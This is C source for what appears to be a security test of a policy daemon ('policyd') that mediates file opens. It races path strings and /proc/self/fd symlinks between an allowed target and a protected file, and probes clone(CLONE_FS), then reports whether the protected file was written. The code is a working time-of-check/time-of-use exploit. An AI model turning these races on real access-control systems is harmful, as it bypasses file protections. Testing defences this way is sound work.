/* Attack: the opens policyd cannot make for the caller, which the kernel
 * makes on the caller's path after policyd's answer (a /proc file, checked
 * against its opener; a FIFO without a reader yet), raced so that the
 * kernel finds another file than the one decided on:
 *   mem ALLOWED PROTECTED  a second thread flips the path string between
 *                          the two names while the main thread opens it
 *   fd PROTECTED LINK      LINK is a symlink to /proc/self/fd/200; a
 *                          second thread re-points 200 between a socket
 *                          and PROTECTED opened read-only
 *   clonefs                a process sharing the working directory
 *                          (clone(CLONE_FS) without CLONE_THREAD), which
 *                          could chdir under a relative name: made?
 * Built -static: only the kernel path sees it. Prints "wrote the protected
 * file (try N)" or "refused: N tries" ("clonefs: made" or "clonefs:
 * refused (errno)"). Blocking opens of a FIFO are cut by a timer. */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#include "protected.h"

#define TRIES 20000
#define N 200
static char buf[4096];
static const char *names[2];
static int ro, sock;
static atomic_int stop;
static atomic_ulong flips;

static void *flip_name(void *x)
{
	(void)x;
	for (unsigned long i = 0; !atomic_load(&stop); i++) {
		strcpy(buf, names[i & 1]);
		atomic_store(&flips, i);
	}
	return NULL;
}

static void *flip_fd(void *x)
{
	(void)x;
	for (unsigned long i = 0; !atomic_load(&stop); i++) {
		dup2(i & 1 ? ro : sock, N);
		atomic_store(&flips, i);
	}
	return NULL;
}

static void on_alarm(int sig)
{
	(void)sig; /* cuts a blocking FIFO open: EINTR (no SA_RESTART) */
}

static int child_fn(void *arg)
{
	(void)arg;
	_exit(0);
}

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "clonefs")) {
		static char stack[65536];
		pid_t p = clone(child_fn, stack + sizeof(stack),
				CLONE_FS | SIGCHLD, NULL);
		if (p < 0) {
			printf("clonefs: refused (%s)\n", strerror(errno));
			return 1;
		}
		waitpid(p, NULL, 0);
		printf("clonefs: made\n");
		return 0;
	}
	if (argc < 4)
		return 2;
	int mem = !strcmp(argv[1], "mem");
	const char *prot = mem ? argv[3] : argv[2];
	struct stat want;
	if (stat(prot, &want) < 0)
		return 2;
	struct sigaction sa = {.sa_handler = on_alarm};
	sigaction(SIGALRM, &sa, NULL);
	struct itimerval it = {{0, 20000}, {0, 20000}};
	setitimer(ITIMER_REAL, &it, NULL);
	pthread_t t;
	if (mem) {
		names[0] = argv[2];
		names[1] = argv[3];
		strcpy(buf, argv[2]);
		pthread_create(&t, NULL, flip_name, NULL);
	} else {
		ro = open(prot, O_RDONLY);
		sock = socket(AF_UNIX, SOCK_DGRAM, 0);
		if (ro < 0 || sock < 0)
			return 2;
		strcpy(buf, argv[3]);
		pthread_create(&t, NULL, flip_fd, NULL);
	}
	while (atomic_load(&flips) < 1000)
		sched_yield();
	int tries;
	for (tries = 0; tries < TRIES; tries++) {
		unsigned long f0 = atomic_load(&flips);
		if (wrote_protected(buf, &want, tries)) {
			atomic_store(&stop, 1);
			return 0;
		}
		while (atomic_load(&flips) == f0)
			sched_yield();
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("refused: %d tries\n", tries);
	return 1;
}
